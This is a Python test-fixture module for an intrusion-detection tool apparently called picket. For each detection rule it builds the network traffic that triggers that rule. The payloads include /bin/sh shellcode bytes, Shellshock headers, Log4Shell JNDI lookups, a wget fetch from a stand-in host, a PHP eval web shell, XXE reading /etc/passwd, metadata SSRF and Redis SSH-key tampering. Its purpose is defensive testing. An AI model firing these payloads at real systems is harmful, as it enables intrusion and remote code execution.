# SPDX-License-Identifier: GPL-3.0-or-later
"""For each of picket's own rules the traffic that fires it."""
import base64

from frames import (agent, http, icmp, mss, netbios, proto, repeat, segment, send, smb, talk, tcp, udp,
                    wide, CLIENT, SERVER)

SYN = [(0, segment("S"))]


def refused(port, answer, count=5):
    return repeat(count, lambda i: talk(port, [("<", answer)], sport=40000 + i))


def scans():
    return {
        1: tcp(seq=9), 2: tcp("F"), 3: tcp("FPU"), 4: tcp("SRAFPU"), 5: tcp("SF"), 6: tcp("SR"),
        7: tcp("FU"), 8: tcp("FP"), 9: tcp("S", data=b"hello"),
        10: repeat(5, lambda i: tcp("S", dport=i + 1, window=1024, options=mss(1460))),
        11: tcp("S", ident=54321, window=65535), 12: repeat(120, lambda i: tcp("S", dport=i + 1), 0.005),
        13: tcp("A", seq=0, ack=7, window=1024), 14: tcp("FA", window=1024, ack=5), 15: tcp("S", dport=0),
        16: udp(0, b"x"), 17: repeat(10, lambda i: udp(1000 + i, b"")), 18: repeat(3, lambda i: icmp(8)),
        19: icmp(13, data=b"\0" * 12), 20: icmp(17, data=b"\0" * 4), 21: icmp(15), 22: proto(200),
        23: repeat(12, lambda i: udp(161, b"\x30\x26\x02\x01\x01\x04\x06public\xa0\x19")),
        24: repeat(5, lambda i: send(113, b"6191, 23\r\n", sport=41000 + i)),
        25: send(21, b"PORT 10,0,0,1,0,25\r\n"),
    }


def fingerprints():
    sip = mss(265)
    return {
        1: tcp("", window=128, df=True, options=sip), 2: tcp("SFUP", window=256, options=sip),
        3: tcp("A", window=1024, df=True, options=sip), 4: tcp("S", window=31337, options=sip),
        5: tcp("A", window=32768, df=True, options=sip), 6: tcp("FPU", window=65535, options=sip),
        7: tcp("SCE", window=3, urgent=0xf7f5), 8: udp(40001, b"C" * 300, ident=4162),
        9: icmp(8, 9, b"\0" * 120), 10: icmp(8, 0, b"\0" * 150, tos=4), 11: tcp("S", window=1, options=mss(1460)),
        12: tcp("S", window=63, options=mss(1400)), 13: tcp("SEC", window=0), 14: icmp(8, 123),
        15: icmp(69, data=b"x"), 16: udp(53, b"\0\x01\0\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03"),
        17: udp(53, b"\0\x01\0\0\0\x01\0\0\0\0\0\0\x02id\x06server\0\0\x10\0\x03"),
        18: udp(123, b"\x16\x02\0\x01" + b"\0" * 8),
        19: repeat(5, lambda i: tcp("S", dport=i + 1, window=512)),
        20: send(111, b"\x80\0\0\x28\0\0\0\x01\0\0\0\0\0\0\0\x02\0\x01\x86\xa0\0\0\0\x02\0\0\0\x04" + b"\0" * 16),
    }


def overflows():
    long = b"A" * 700
    return {
        1: send(21, b"USER " + long + b"\r\n"), 2: send(21, b"PASS " + long + b"\r\n"),
        3: send(21, b"CWD " + long + b"\r\n"), 4: send(21, b"SITE EXEC %x%x%n\r\n"), 5: send(21, b"USER %n%n\r\n"),
        6: send(25, b"HELO " + long + b"\r\n"), 7: send(25, b"MAIL FROM:<" + long + b">\r\n"),
        8: send(25, b"VRFY " + long + b"\r\n"), 9: send(110, b"USER " + long + b"\r\n"),
        10: send(110, b"PASS " + long + b"\r\n"), 11: send(143, b"a1 LOGIN " + long + b" x\r\n"),
        12: send(143, b"a1 LOGIN {4294967}\r\n"), 13: http("GET /" + "A" * 9000),
        14: talk(80, [(">", b"GET / HTTP/1.1\r\nHost: " + b"h" * 1500 + b"\r\n\r\n"), ("<", b"HTTP/1.1 400 No\r\n\r\n")]),
        15: agent(b"A" * 2500), 16: http("GET /", b"Authorization: Basic " + b"QUFB" * 700 + b"\r\n"),
        17: http("POST /", b"Transfer-Encoding: chunked\r\nX-Pad: a\r\n\r\n\r\nfffffff0\r\nAAAA"),
        18: send(9999, b"\x90" * 40 + b"\xcc"), 19: udp(9999, b"\x90" * 40),
        20: send(9999, b"\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x50\xcd\x80"),
        21: send(9999, b"\x48\xbb/bin//sh\x53\x54\x5f\x0f\x05"),
        22: send(9999, b"\xeb\x1f\x5e\x89\x76\x08\x31\xc0\xe8\xdc\xff\xff\xff/bin/sh"),
        23: send(9999, b"\x64\x8b\x52\x30\x8b\x52\x0c\x8b\x52\x14"),
        24: send(9999, b"\x65\x48\x8b\x52\x60\x48\x8b\x52\x18\x48\x8b\x52\x20"),
        25: send(22, b"SSH-2.0-" + b"x" * 300 + b"\r\n"),
        26: udp(53, b"\0\x01\x01\0" + b"\0\x01\0\0\0\0\0\0\xc0\x0c" + b"\0\x01\0\x01"),
        27: udp(53, b"\0\x01\x01\0\0\x01\0\0\0\0\0\x01\x01a\0\0\x01\0\x01\0\0\xfa\0\xff" + b"B" * 450),
        28: udp(514, b"<13>app: %n%n%n"), 29: udp(111, b"\0\0\0\x01" + b"\0\x01\x86\xb8" + b"%8x%8x%n%n"),
        30: send(515, b"\x02" + b"q" * 600 + b"\n"), 31: send(3306, b"\x80\x01\0\x01" + b"\0" * 32 + b"u" * 400),
        33: udp(69, b"\0\x01" + b"f" * 200 + b"\0octet\0"),
    }


def cgis():
    cookie = b"Cookie: a=() { :;}; echo x\r\n"
    return {
        1: http("GET /cgi-bin/phf?Qalias=x%0a/bin/ls"), 2: http("GET /cgi-bin/test-cgi?*"),
        3: http("GET /cgi-bin/nph-test-cgi?*"), 4: http("GET /cgi-bin/formmail.pl?recipient=a@example.com&x=y"),
        5: http("GET /cgi-bin/handler/x;ls%09|?data=Download"), 6: http("GET /cgi-bin/count.cgi?" + "a" * 400),
        7: http("GET /cgi-bin/campas?%0als"), 8: http("GET /cgi-bin/php.cgi?/etc/hosts"),
        9: http("GET /index.php?-s"), 10: http("GET /cgi-bin/x", b"X-A: () { :;}; /bin/id\r\n"),
        11: http("GET /cgi-bin/x", cookie), 12: http("GET /cgi-bin/awstats.pl?configdir=|id|"),
        13: http("GET /cgi-bin/perl.exe?-v"), 14: http("GET /cgi-bin/bash?id"),
        15: http("GET /x/../../../../etc/shadow"), 16: http("GET /%2e%2e%2f%2e%2e%2fx"),
        17: http("GET /cgi-bin/.%2e/.%2e/bin/sh"), 18: http("GET /a?f=/etc/passwd"),
        19: http("GET /a?f=/windows/win.ini"), 20: http("GET /scripts/..%5cwinnt/system32/cmd.exe?/c+dir"),
        21: http("GET /scripts/root.exe?/c+dir"), 22: http("GET /scripts/..%c0%af../x"),
        23: http("GET /default.ida?" + "N" * 240), 24: http("GET /a.asp::$DATA"), 25: http("GET /a%00.html"),
        26: http("GET /setup.cgi?next_file=x&todo=syscmd&cmd=ls"), 27: http("GET /a?x=$(id%20)"),
    }


def smbs():
    peek = b"\0" * 20 + b"\x23\0\0\0\x07\0\\PIPE\\\0"
    names = {2: "\\\\h\\ADMIN$", 3: "\\\\h\\C$", 4: "\\\\h\\D$", 7: "svcctl", 8: "atsvc", 9: "winreg", 10: "samr",
             11: "lsarpc", 14: "efsrpc", 15: "PSEXESVC.exe"}
    cases = {number: smb(0x75, wide(name)) for number, name in names.items()}
    cases.update({
        1: repeat(10, lambda i: send(445, b"\0\0\0\x40\xffSMB\x75" + b"\0" * 20 + wide("\\\\h\\IPC$"), sport=41000 + i)),
        5: smb(0x73, b"\x0d\xff\0\0\0" + b"\0" * 40), 
        6: repeat(5, lambda i: send(445, b"\0\0\0\x40\xffSMB\x72" + b"\0" * 27 + b"\0\x20\0\x02PC NETWORK PROGRAM 1.0\0",
                                    sport=41000 + i)),
        12: repeat(20, lambda i: send(445, b"\0\0\0\x40\xffSMB\xa2" + b"\0" * 27 + wide("netlogon"), sport=41000 + i)),
        13: smb(0x2f, wide("spoolss") + wide("\\\\192.0.2.1\\share")), 16: smb(0x25, peek),
        17: smb(0x32, b"\x0f\x0c\0\0\0\x01\0\0\0\0\0\0\0" + b"\0" * 14 + b"\x0e\0" + b"\0" * 12),
        18: smb(0x33, b"\0" * 30 + b"\0\0\x10\0\0\x10" + b"\0" * 8),
        19: netbios(b"\xfcSMB" + b"\0\x10\0\0" + b"\x01\0\0\0" + b"\xff\xff\xff\xf0" + b"\0" * 32),
        20: netbios(b"\xfcSMB\xff\xff\xff\xff" + b"\x01\0\0\0" + b"\0" * 36),
        21: smb(0x32, b"\0" * 8 + b"\0\xd0\x07" + b"A" * 1200),
        22: smb(0xa2, wide("/tmp/x.so")),
        23: udp(137, b"\x01\x02\0\0\0\x01\0\0\0\0\0\0\x20CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\0\0\x21\0\x01"),
        24: send(135, b"\x05\0\0\x03" + b"\0" * 20 + wide("\\\\") + b"F\0" * 300),
    })
    return cases


def scanners():
    names = {1: b"Mozilla/5.0 (compatible; Nmap Scripting Engine)", 2: b"Mozilla/5.00 (Nikto/2.1.6)", 3: b"sqlmap/1.7",
             4: b"masscan/1.3", 5: b"Mozilla/5.0 zgrab/0.x", 6: b"gobuster/3.1.0", 7: b"DirBuster-1.0",
             8: b"Fuzz Faster U Fool v1.5", 9: b"Wfuzz/3.1", 10: b"feroxbuster/2.7", 11: b"WPScan v3.8",
             12: b"Nuclei - Open-source", 13: b"Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9)", 14: b"Nessus SOAP",
             16: b"w3af.org", 17: b"WhatWeb/0.5.5", 18: b"Mozilla/4.0 (Hydra)"}
    cases = {number: agent(name) for number, name in names.items()}
    cases.update({
        15: http("GET /", b"Acunetix-Product: WVS\r\n"), 19: http("GET /nmaplowercheck1700000000"),
        20: http("GET /nice%20ports%2C/Tri%6Eity.txt%2ebak"), 21: send(22, b"SSH-2.0-libssh_0.9.6\r\n"),
        22: udp(5060, b"OPTIONS sip:100@x SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n"),
        23: send(3389, b"\x03\0\0\x2b\x26\xe0\0\0\0\0\0Cookie: mstshash=nmap\r\n\x01\0\x08\0\x03\0\0\0"),
        24: send(8080, b"CONNECT mail.example.com:25 HTTP/1.1\r\n\r\n"),
    })
    return cases


def brutes():
    login = b"POST /wp-login.php HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
    calls = b"<methodCall><methodName>system.multicall</methodName>wp.getUsersBlogs wp.getUsersBlogs</methodCall>"
    no = b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n"
    return {
        1: repeat(10, lambda i: send(22, b"SSH-2.0-x\r\n", sport=41000 + i)), 2: refused(21, b"530 Login incorrect.\r\n"),
        3: refused(25, b"535 5.7.8 Error: authentication failed\r\n"), 4: refused(110, b"-ERR Authentication failed\r\n"),
        5: refused(143, b"a1 NO [AUTHENTICATIONFAILED] Authentication failed.\r\n"), 6: refused(23, b"\r\nLogin incorrect\r\n"),
        7: repeat(10, lambda i: http("GET /private", answer=no, sport=41000 + i)),
        8: repeat(10, lambda i: talk(80, [(">", login), ("<", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")], sport=41000 + i)),
        9: http("POST /xmlrpc.php", body=calls), 10: refused(3306, b"\x48\0\0\x02\xff\x15\x04#28000Access denied"),
        11: refused(5432, b"E\0\0\0\x60SFATAL\0VFATAL\0C28P01\0Mpassword authentication failed\0"),
        12: refused(1433, b"\x04\x01\0\x70\0\x34\x01\0\xaa\x58\0\x18\x48\0\0\x01\x0e"),
        13: refused(445, b"\0\0\0\x30\xfeSMB\x40\0\0\0\x6d\0\0\xc0\x01\0" + b"\0" * 30), 14: refused(5900, b"\0\0\0\x01"),
        15: repeat(10, lambda i: send(3389, b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0", sport=41000 + i)),
        16: refused(6379, b"-WRONGPASS invalid username-password pair\r\n"),
    }


def exploits():
    java = b"\xac\xed\0\x05sr\0\x11java.util.HashMap"
    return {
        1: http("GET /a?id=1%20UNION%20ALL%20SELECT%201,2"), 2: http("GET /a?id=1'%20or%20'1'='1"),
        3: http("GET /a?id=1;drop%20table%20x"), 4: http("GET /a?id=sleep(5)"),
        5: http("GET /a?id=information_schema.tables"), 6: http("GET /a?q=<script>alert(1)</script>"),
        7: http("GET /a?q=<img%20src=x%20onerror=alert(1)>"), 8: http("GET /a.php?p=http://192.0.2.9/x.txt?"),
        9: http("GET /a?f=php://filter/resource=x"), 10: http("GET /a.php?auto_prepend_file=x"),
        11: http("GET /", b"X-Api: ${jndi:ldap://192.0.2.9/a}\r\n"), 12: http("GET /?x=${jndi:ldap://192.0.2.9/a}"),
        13: http("GET /", b"X-Api: ${${lower:j}ndi:ldap://192.0.2.9/a}\r\n"),
        14: http("POST /a", b"Content-Type: %{(#x='multipart/form-data')}\r\n", b"a"),
        15: http("GET /${(#a=1)}/x.action"), 16: http("POST /a", body=b"class.module.classLoader.resources=x"),
        17: http("POST /a", body=java), 18: http("GET /a", b"Cookie: s=" + base64.b64encode(java) + b"\r\n"),
        19: http("POST /a", body=b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        20: http("GET /a?n={{7*7}}"), 21: http("GET /up/x.php?cmd=id"),
        22: http("POST /a.php", body=b"x=@eval(base64_decode($_POST[z]));"), 23: http("GET /.git/config"),
        24: http("GET /a?u=http://169.254.169.254/latest"), 25: http("GET /a?x=1;wget%20http://192.0.2.9/x"),
        26: send(6379, b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n"),
        27: send(21, b"USER anna:)\r\n"), 28: send(21, b"SITE CPTO /var/www/x.php\r\n"),
        29: send(25, b"Subject: () { :;}; id\r\n"), 30: send(25, b"RCPT TO:<a+${run{x}}@example.org>\r\n"),
        31: send(3632, b"DIST00000001ARGC00000003ARGV00000002shARGV00000002-cARGV00000002id"),
        32: talk(4444, [("<", b"uid=0(root) gid=0(root) groups=0(root)\n")]), 33: send(443, b"\x18\x03\x02\0\x03\x01\x40\0"),
    }


FILES = {"scan": (9010000, scans), "fingerprint": (9020000, fingerprints), "overflow": (9030000, overflows),
         "cgi": (9040000, cgis), "smb": (9050000, smbs), "scanner": (9060000, scanners),
         "brute-force": (9070000, brutes), "exploit": (9080000, exploits)}
